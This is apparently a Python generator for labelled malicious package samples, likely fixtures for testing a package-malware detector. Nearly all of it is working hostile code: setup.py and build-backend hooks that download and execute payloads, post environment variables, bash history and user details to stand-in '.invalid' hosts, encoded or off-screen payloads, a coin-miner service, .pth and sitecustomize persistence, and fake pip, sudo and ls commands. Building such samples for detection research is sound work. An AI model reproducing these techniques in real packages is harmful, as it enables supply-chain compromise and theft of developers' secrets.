"""Malicious Python packages whose behaviour begins at installation or at interpreter start. Every host is `*.invalid`."""

import kit
from kit import Dice
from packages import Writer

SETUP_TAIL = '\nsetup(name="{NAME}", version="{VERSION}", packages=find_packages())\n'
HEAD = "from setuptools import setup, find_packages\n"


def setup_scripts(w):
    w.sdist("requests-darwin-lite", "2.27.1", "setup-download-exec", "setup.py runs what it downloads", HEAD + r'''
import urllib.request

try:
    exec(urllib.request.urlopen("https://s.darwin-lite.invalid/i.py", timeout=5).read())
except Exception:
    pass
''' + SETUP_TAIL)
    w.sdist("beautifulsup5", "0.0.1", "setup-env-exfil", "setup.py posts the environment", HEAD + r'''
import os, requests
requests.post("https://b.soup.invalid/e", json=dict(os.environ), timeout=3)
''' + SETUP_TAIL)
    w.sdist("colorama-pro", "4.6.9", "cmdclass-override", "its install command starts a hidden process", r'''
import subprocess
import sys
from setuptools import setup, find_packages
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.Popen([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('http://c.colorpro.invalid/x').read())"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, creationflags=0)


setup(name="{NAME}", version="{VERSION}", packages=find_packages(), cmdclass={"install": PostInstall})
''')
    w.sdist("pyconfig-tools-x", "1.2.0", "cmdclass-override", "the develop and egg_info commands send user and host", r'''
import getpass, os, platform, socket
from http.client import HTTPSConnection
from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info


def beacon():
    c = HTTPSConnection("p.config-x.invalid", timeout=4)
    c.request("GET", "/?h=%s&u=%s&c=%s&p=%s" % (socket.gethostname(), getpass.getuser(), os.getcwd(), platform.node()))


class D(develop):
    def run(self):
        beacon()
        develop.run(self)


class E(egg_info):
    def run(self):
        beacon()
        egg_info.run(self)


setup(name="{NAME}", version="{VERSION}", cmdclass={"develop": D, "egg_info": E})
''')
    w.sdist("corp-ml-common", "99.1.0", "setup-dns-exfil", "a dependency confusion beacon by name look-up", HEAD + r'''
import base64, getpass, socket

data = "%s|%s" % (getpass.getuser(), socket.getfqdn())
label = base64.b32encode(data.encode()).decode().rstrip("=").lower()
for i in range(0, len(label), 50):
    try:
        socket.gethostbyname(label[i:i + 50] + ".n.mlcommon.invalid")
    except OSError:
        pass
''' + SETUP_TAIL)
    w.sdist("pytorch-nightly-dep", "3.0.0", "setup-curl-sh", "setup.py pipes a download into a shell", HEAD + "import os\nos.system('curl -sSL https://t.nightly.invalid/run.sh | bash &')\n" + SETUP_TAIL)
    w.sdist("discord-py-selfbots", "1.0.0", "encoded-payload", "setup.py evaluates compressed base64", HEAD + "import base64, zlib\nexec(zlib.decompress(base64.b64decode(b'%s')))\n" % kit.b64(
        __import__("zlib").compress(b"import os,urllib.request as u\ntry:u.urlopen('https://d.self.invalid/?'+str(len(os.environ)),data=repr(os.environ).encode())\nexcept Exception:pass\n")) + SETUP_TAIL)
    w.sdist("win-toast-notify", "2.0.2", "setup-powershell", "setup.py starts a hidden PowerShell download", HEAD + r'''
import subprocess, os
if os.name == "nt":
    subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand %s', shell=True)
''' % kit.b64("iwr http://w.toast.invalid/s.exe -OutFile $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe".encode("utf-16-le")) + SETUP_TAIL)
    w.sdist("fernet-settings", "0.1.0", "encoded-payload", "a one-liner decrypts and executes", HEAD + "\nfrom cryptography.fernet import Fernet;exec(Fernet(b'%s').decrypt(b'gAAAAAB%s'))\n" % (
        kit.b64(Dice("fer").raw(32)), Dice("fer2").text(kit.B64URL, 600)) + SETUP_TAIL)
    w.sdist("build-hooks-extra", "0.5.0", "in-tree-backend", "its own build backend fetches a program and runs it", {
        "pyproject.toml": '''[build-system]
requires = ["setuptools"]
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "{NAME}"
version = "{VERSION}"
''',
        "_build/backend.py": r'''
from setuptools.build_meta import *  # noqa: F401,F403
from setuptools import build_meta as _orig
import os, stat, subprocess, tempfile, urllib.request


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    path = os.path.join(tempfile.gettempdir(), ".cache-helper")
    try:
        urllib.request.urlretrieve("https://b.hooks.invalid/helper", path)
        os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
        subprocess.Popen([path], start_new_session=True)
    except Exception:
        pass
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
'''}, setup=False)
    w.sdist("numpy-ext-types", "1.0.0", "in-tree-backend", "get_requires_for_build_wheel sends the build machine's environment", {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "hook"\nbackend-path = ["."]\n',
        "hook.py": r'''
import json, os, socket


def get_requires_for_build_wheel(config_settings=None):
    s = socket.create_connection(("b.ext-types.invalid", 80), 3)
    body = json.dumps(dict(os.environ)).encode()
    s.sendall(b"POST /e HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    return ["setuptools"]
'''}, setup=False)
    w.sdist("setup-off-screen", "1.0.3", "off-screen", "code far to the right in setup.py", HEAD + "import os" + " " * 380 + ";import tempfile;f=tempfile.NamedTemporaryFile(delete=False);f.write(b'from urllib.request import urlopen as u;exec(u(\"http://o.screen.invalid/g\").read())');f.close();os.system('python '+f.name)\n" + SETUP_TAIL)
    w.sdist("gpu-probe", "0.0.7", "miner", "setup.py installs a coin miner as a user service", HEAD + r'''
import os, subprocess, pathlib
unit = pathlib.Path.home() / ".config/systemd/user/gpu-probe.service"
try:
    unit.parent.mkdir(parents=True, exist_ok=True)
    unit.write_text("[Service]\nExecStart=/bin/sh -c 'curl -s https://m.gpu.invalid/xmr | sh -s -- --pool pool.gpu.invalid:443 --algo rx/0 --user INERT'\n[Install]\nWantedBy=default.target\n")
    subprocess.call(["systemctl", "--user", "enable", "--now", "gpu-probe"])
except OSError:
    pass
''' + SETUP_TAIL)


def interpreter_start(w):
    w.wheel("litellm-helpers", "1.82.8", "pth-file", "a .pth file starts a hidden program with each interpreter", {
        "litellm_helpers_init.pth": "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('%s'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n" % kit.b64(
            "import os,urllib.request as u\ntry:u.urlopen('https://m.litehelp.invalid/',data=repr(dict(os.environ)).encode())\nexcept Exception:pass\n")})
    w.wheel("virtual-env-tools", "0.3.0", "pth-file", "a .pth file evaluates hex", {"zz_venv.pth": "import sys;exec(bytes.fromhex('%s'))\n" % b"import os;os.system('curl -s https://v.tools.invalid/a|sh')".hex()})
    w.wheel("speed-imports", "1.0.0", "sitecustomize", "ships sitecustomize.py, which every interpreter imports", {"sitecustomize.py": r'''
import atexit
import os


def _send():
    import urllib.request
    hist = os.path.expanduser("~/.bash_history")
    if os.path.exists(hist):
        with open(hist, "rb") as f:
            try:
                urllib.request.urlopen("https://h.speed.invalid/u", data=f.read())
            except OSError:
                pass


atexit.register(_send)
'''})
    w.wheel("json-fast-shim", "2.0.0", "module-shadowing", "installs modules named like the standard library's and sends what passes through", {"base64.py": r'''
import importlib.util, os, sys
from urllib.request import Request


def b64encode(data, altchars=None):
    import binascii, socket
    try:
        socket.getaddrinfo(data[:20].hex() + ".s.shim.invalid", 80)
    except OSError:
        pass
    return binascii.b2a_base64(data, newline=False)
''', "hmac.py": "from base64 import b64encode\n\n\ndef new(key, msg=None, digestmod=''):\n    b64encode(key)\n    raise NotImplementedError\n"})
    w.wheel("usercustom-pack", "0.1.0", "persistence", "writes usercustomize.py into the user's site folder", "import os, site\n\nCODE = \"import urllib.request as u\\ntry: exec(u.urlopen('https://u.custom.invalid/p').read())\\nexcept Exception: pass\\n\"\n" + r'''

def _place():
    folder = site.getusersitepackages()
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "usercustomize.py"), "a") as f:
        f.write(CODE)


_place()
''')
    w.wheel("pip-audit-lite", "1.1.0", "bin-shadowing", "its console script is called pip and passes on its arguments", {"PKG/cli.py": r'''
import subprocess
import sys
import urllib.parse
import urllib.request


def main():
    try:
        urllib.request.urlopen("https://a.audit-lite.invalid/?" + urllib.parse.urlencode({"a": sys.argv}), timeout=2)
    except OSError:
        pass
    sys.exit(subprocess.call([sys.executable, "-m", "pip", *sys.argv[1:]]))
'''}, "[console_scripts]\npip = pip_audit_lite.cli:main\nsudo = pip_audit_lite.cli:main\n")
    w.wheel("wheel-scripts-x", "0.2.0", "bin-shadowing", "the wheel's data folder replaces ls", {"wheel_scripts_x-0.2.0.data/scripts/ls": "#!/bin/sh\n(curl -s -d \"$(id;pwd)\" https://l.scripts.invalid/ >/dev/null 2>&1 &)\nexec /bin/ls \"$@\"\n"})


def build(items):
    writer = Writer(items, "bad")
    setup_scripts(writer)
    interpreter_start(writer)
